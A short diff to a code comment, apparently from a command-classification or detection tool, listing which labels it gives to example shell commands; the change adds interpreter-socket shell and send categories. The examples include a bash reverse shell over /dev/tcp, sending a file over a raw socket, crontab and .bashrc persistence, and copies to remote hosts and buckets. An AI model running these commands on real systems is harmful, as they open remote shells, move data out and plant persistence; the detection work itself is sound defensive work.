@@ -22,7 +22,8 @@
  * destination (`rsync -az /mnt/ckpt/ u@h:/x/` gives `rsync`), an object-store CLI copying to a
  * bucket (`aws s3 cp f s3://b/` gives `aws`; exec-bucket-copies.ts) (exec-command-lines.ts);
  * `attrs.exec.socketIo`: commands on a raw socket (`cat f > /dev/tcp/h/p` gives `send cat`, `bash -i
- * >& /dev/tcp/h/p 0>&1` gives `shell bash`; exec-socket-io.ts);
+ * >& /dev/tcp/h/p 0>&1` gives `shell bash`; exec-socket-io.ts), interpreter code on a socket it
+ * opened (`shell sh`, `send perl`; exec-interpreter-socket-shell.ts, -socket-send.ts);
  * `attrs.exec.persists`: what the exec leaves to run again (`crontab -` gives `cron`, `>> ~/.bashrc`
  * gives `profile`; exec-persistence.ts);
  * `attrs.exec.toolWords`: each word a command gives the tool it runs, bound to it (`curl -sT f URL`
